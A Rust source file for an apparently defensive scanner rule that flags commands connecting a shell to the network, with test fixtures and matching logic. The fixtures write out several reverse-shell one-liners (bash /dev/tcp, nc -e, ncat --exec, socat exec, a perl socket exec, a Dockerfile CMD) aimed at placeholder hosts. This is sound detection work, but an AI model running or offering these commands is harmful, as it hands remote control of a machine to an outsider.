//! Commands that give somebody else a shell.

use weighbridge_domain::facts::{Command, Program};
use weighbridge_domain::{Confidence, Severity};

use super::command::{reaches, sends, shown};
use super::{Check, Example, Findings, Light, Rule};
use crate::facts::Facts;
use crate::known::programs::{self, Asked, Language};
use crate::samples::commands::{dockerfile, script};

/// Commands that give somebody else a shell.
pub static RULE: Rule = Rule {
    id: "command-opens-shell",
    severity: Severity::Critical,
    confidence: Confidence::High,
    light: Light::Content,
    since: "0.1.0",
    summary: "A command connects a shell to the network",
    why: "Whoever is at the other end runs commands on this machine. Nothing that trains, serves or builds a model needs that. \
          That a port answers can be tested through `/dev/tcp` too; that is not reported.",
    advice: "Do not run it. If it ran, treat the machine as taken over.",
    references: &["CWE-506", "CWE-912", "AML.T0010", "AML.T0011"],
    examples: &[
        Example { name: "device", files: || script("bash -i >& /dev/tcp/example.org/9 0>&1"), fires: ID },
        Example { name: "device-twin", files: || script("bash -c '</dev/tcp/example.org/9'"), fires: &[] },
        Example {
            name: "device-exchange",
            files: || script("sh -i <> /dev/udp/192.0.2.7/9 1>&0"),
            fires: ID,
        },
        Example { name: "listener", files: || script("nc -e /bin/sh example.org 9"), fires: ID },
        Example { name: "listener-twin", files: || script("nc -z example.org 9"), fires: &[] },
        Example { name: "listener-long", files: || script("ncat --exec /bin/bash example.org 9"), fires: ID },
        Example {
            name: "pipes",
            files: || script("cat /tmp/demo | sh -i 2>&1 | nc example.org 9 > /tmp/demo"),
            fires: ID,
        },
        Example {
            name: "pipes-twin",
            files: || script("cat /tmp/demo | nc example.org 9 > /tmp/demo"),
            fires: &[],
        },
        Example { name: "socat", files: || script("socat tcp:example.org:9 exec:'bash -li',pty"), fires: ID },
        Example { name: "socat-twin", files: || script("socat tcp:example.org:9 stdout"), fires: &[] },
        Example {
            name: "perl",
            files: || script("perl -e 'use Socket; connect(S, $demo); exec(\"/bin/sh -i\");'"),
            fires: ID,
        },
        Example { name: "perl-twin", files: || script("perl -e 'use Socket; print 1;'"), fires: &[] },
        Example {
            name: "image",
            files: || dockerfile("CMD [\"bash\", \"-c\", \"bash -i >& /dev/tcp/example.org/9 0>&1\"]"),
            fires: ID,
        },
    ],
    check: Check::File(check),
};

const ID: &[&str] = &["command-opens-shell"];

fn check(facts: &Facts, findings: &mut Findings<'_>) {
    for (place, command) in facts.commands() {
        if (0..command.programs.len()).any(|at| opens(command, at)) {
            findings.add(place, format!("`{}` connects a shell to the network", shown(command)));
        }
    }
}

fn opens(command: &Command, at: usize) -> bool {
    let Some(program) = command.programs.get(at) else { return false };
    let words: Vec<&str> = program.words.iter().map(String::as_str).collect();
    let asked = programs::asked(&words);
    let shell = programs::is_shell(program.name());
    let device = program
        .redirects
        .iter()
        .any(|one| one.target.starts_with("/dev/tcp/") || one.target.starts_with("/dev/udp/"));
    let network = |next: &Program| {
        sends(next) && next.name() != "ssh" && !matches!(next.name(), "curl" | "wget" | "mail")
    };
    match program.name() {
        "nc" | "ncat" | "netcat" => program.arguments().iter().any(|word| {
            let cluster = word.starts_with('-') && !word.starts_with("--") && word.ends_with(['e', 'c']);
            cluster || matches!(word.as_str(), "--exec" | "--sh-exec" | "--lua-exec")
        }),
        "socat" => program.arguments().iter().any(|word| {
            let lower = word.to_lowercase();
            (lower.starts_with("exec:") || lower.starts_with("system:")) && lower.contains("sh")
        }),
        _ if shell && asked == Some(Asked::Input) => device || reaches(command, at, network),
        name => matches!(
            (programs::language(name), asked),
            (Some(Language::Python | Language::Other | Language::PowerShell), Some(Asked::Code(at)))
                if program.words.get(at).is_some_and(|code| connects(code))
        ),
    }
}

/// A program in one line that connects and runs a shell.
fn connects(code: &str) -> bool {
    let lower = code.to_lowercase();
    let network = ["socket", "fsockopen", "tcpclient", "net.connect"].iter().any(|word| lower.contains(word));
    let shell = ["/bin/sh", "/bin/bash", "pty.spawn", "dup2", "cmd.exe", "child_process"];
    network && shell.iter().any(|word| lower.contains(word))
}
